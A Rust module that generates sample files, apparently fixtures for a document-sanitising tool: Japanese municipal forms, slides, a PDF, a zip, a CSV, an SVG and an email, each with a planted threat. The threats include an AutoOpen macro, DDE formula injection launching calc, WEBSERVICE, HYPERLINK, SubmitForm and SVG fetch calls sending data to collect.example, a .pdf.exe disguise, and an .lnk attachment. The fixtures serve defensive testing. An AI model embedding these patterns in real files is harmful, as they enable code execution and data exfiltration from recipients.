//! The files of `examples/files`: what a town hall gets in a day, each with
//! something in it that does not belong there.

use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

use crate::japanese::{document, pdf, sheet};
use crate::make::ole::{macro_project, program};
use crate::make::pdf::{Layout, Pdf};
use crate::make::picture;
use crate::make::xml::Wording;
use crate::make::zip::{Member, Zip};

/// Every example with its name.
#[must_use]
pub fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("住民票交付申請書.docm", application()),
        ("補助金申請書_方眼.xlsx", grid()),
        ("防災訓練のご案内.pptx", slides()),
        ("お知らせ.pdf", notice()),
        ("提出書類.zip", papers()),
        ("申請者名簿.csv", list()),
        ("site-photo.jpg", photo()),
        ("town-mark.svg", mark()),
        ("inquiry.eml", mail()),
    ]
}

/// A form whose macro runs when it is opened and whose template is far away.
fn application() -> Vec<u8> {
    let mut package = document::application(&[]);
    let main = "word/document.xml";
    package.retype(main, "application/vnd.ms-word.document.macroEnabled.main+xml");
    let project = macro_project("Sub AutoOpen()\r\n    MsgBox \"example\"\r\nEnd Sub");
    package.part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", project);
    package.relate(
        main,
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    );
    let settings = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
    package.part(
        "word/settings.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
        settings,
    );
    package.relate(main, "rIdSet", "settings", "settings.xml");
    package.relate_out(
        "word/settings.xml",
        "rId1",
        "attachedTemplate",
        "http://template.example/form.dotm",
    );
    package.write(Wording::Plain)
}

/// Graph paper with a cell that would start a program.
fn grid() -> Vec<u8> {
    let cell = "<row r=\"15\"><c r=\"B15\"><f>cmd|'/c calc'!A1</f><v>0</v></c><c r=\"J15\"><f>WEBSERVICE(\"http://collect.example/?\"&amp;J9)</f><v>0</v></c></row>";
    sheet::grid(&[cell]).write(Wording::Plain)
}

/// A slide whose button starts a program.
fn slides() -> Vec<u8> {
    let mut package = crate::inject::deck();
    let slide = "ppt/slides/slide1.xml";
    let button = "<p:sp><p:nvSpPr><p:cNvPr id=\"8\" name=\"button\"><a:hlinkClick r:id=\"rIdRun\" action=\"ppaction://program\"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x=\"2600000\" y=\"2600000\"/><a:ext cx=\"3000000\" cy=\"700000\"/></a:xfrm><a:prstGeom prst=\"roundRect\"><a:avLst/></a:prstGeom><a:solidFill><a:srgbClr val=\"2F6DB5\"/></a:solidFill></p:spPr><p:txBody><a:bodyPr anchor=\"ctr\"/><a:p><a:pPr algn=\"ctr\"/><a:r><a:rPr lang=\"ja-JP\"/><a:t>防災訓練の申込みはこちら</a:t></a:r></a:p></p:txBody></p:sp>";
    package.before(slide, "</p:spTree>", button);
    package.relate_out(slide, "rIdRun", "hyperlink", "file:///C:/Windows/System32/calc.exe");
    package.write(Wording::Plain)
}

/// A notice with a script that runs on opening, a form that sends itself away
/// and a link that may stay.
fn notice() -> Vec<u8> {
    let text = encoding_rs::SHIFT_JIS.encode("水道工事のお知らせ(三月二日から)").0;
    let mut page: Pdf = pdf::named("90ms-RKSJ-H", &text);
    page.catalog("/OpenAction<</S/JavaScript/JS(app.alert\\('example'\\))>>");
    page.put(20, "<</Type/Annot/Subtype/Link/Rect[60 700 260 720]/Border[0 0 0]/A<</S/URI/URI(https://www.example.jp/water)>>>>");
    page.put(21, "<</Type/Annot/Subtype/Link/Rect[60 660 260 680]/Border[0 0 0]/A<</S/SubmitForm/F<</FS/URL/F(http://collect.example/)>>>>>>");
    page.on_page("/Annots[20 0 R 21 0 R]");
    page.put(22, "<</Author(suido-ka)/Producer(example)>>").trailer("/Info 22 0 R");
    page.write(Layout::Plain)
}

/// A Windows ZIP with a program between the papers.
fn papers() -> Vec<u8> {
    let name = |text: &str| encoding_rs::SHIFT_JIS.encode(text).0.into_owned();
    let members = vec![
        Member::new(name("申請書類/一覧表.txt"), name("1 申請書\r\n2 図面①～③\r\n")),
        Member::new(name("申請書類/申請書.docx"), document::application(&[]).write(Wording::Plain)),
        Member::new(name("申請書類/見積書.pdf.exe"), program("example")),
    ];
    Zip { members, ..Zip::default() }.write()
}

/// A list with a formula where a name should be.
fn list() -> Vec<u8> {
    let text = "番号,氏名,電話,差額\r\n1,髙橋 一郎,03-1234-5678,-1200\r\n2,\"=HYPERLINK(\"\"http://collect.example/?x=\"\"&B2,\"\"山﨑 花子\"\")\",+81-3-1234-5678,500\r\n3,=cmd|'/c calc'!A1,(090)1111-2222,①～③\r\n";
    encoding_rs::SHIFT_JIS.encode(text).0.into_owned()
}

/// A photograph, as far as anyone can tell, that knows where it was taken.
fn photo() -> Vec<u8> {
    let picture = RgbImage::from_fn(320, 213, |x, y| {
        let sun = x.abs_diff(240).pow(2) + y.abs_diff(50).pow(2);
        let hill = 150 - x.abs_diff(110).min(110) / 3;
        let fold = 175 - x.abs_diff(250).min(160) / 5;
        let shade = u8::try_from(y / 2).unwrap_or(u8::MAX);
        match () {
            () if y > fold => Rgb([70, 130 - shade / 3, 70]),
            () if y > hill => Rgb([95, 150 - shade / 3, 95]),
            () if sun < 500 => Rgb([255, 236, 170]),
            () => Rgb([150 + shade / 2, 195 + shade / 4, 235]),
        }
    });
    let jpeg = picture::encode(&DynamicImage::ImageRgb8(picture), ImageFormat::Jpeg);
    let block = picture::exif("Example Camera");
    let length = u16::try_from(block.len() + 2).expect("the block is small").to_be_bytes();
    [&jpeg[..2], &[0xff, 0xe1], &length, &block, &jpeg[2..]].concat()
}

/// A town's mark with a script inside.
fn mark() -> Vec<u8> {
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 120 120\" width=\"120\" height=\"120\" onload=\"fetch('http://collect.example/')\"><script>location = 'http://collect.example/'</script><circle cx=\"60\" cy=\"60\" r=\"54\" fill=\"#f5f8f4\" stroke=\"#2f7d4f\" stroke-width=\"6\"/><path d=\"M60 24c18 16 18 40 0 72c-18-32-18-56 0-72z\" fill=\"#2f7d4f\"/><path d=\"M28 78c20-12 44-12 64 0\" fill=\"none\" stroke=\"#2f6db5\" stroke-width=\"6\"/></svg>\n".as_bytes().to_vec()
}

/// A question from a resident, with a script in its HTML and a shortcut beside.
fn mail() -> Vec<u8> {
    let word = |text: &str| format!("=?UTF-8?B?{}?=", crate::inject::base64(text.as_bytes()));
    let shortcut =
        [b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x81\0\0\0", &[0; 52][..]].concat();
    format!(
        "From: {} <resident@example.jp>\r\nTo: clerk@example.jp\r\nSubject: {}\r\nDate: Mon, 2 Mar 2026 09:12:00 +0900\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_sekisho\"\r\n\r\n--=_sekisho\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<html><body><p>ごみの収集日について教えてください。</p><img src=\"http://track.example/1.png\"><script>alert(1)</script></body></html>\r\n--=_sekisho\r\nContent-Type: application/octet-stream; name=\"map.lnk\"\r\nContent-Disposition: attachment; filename=\"map.lnk\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--=_sekisho--\r\n",
        word("山﨑花子"),
        word("ごみの収集日"),
        crate::inject::base64(&shortcut)
    )
    .into_bytes()
}
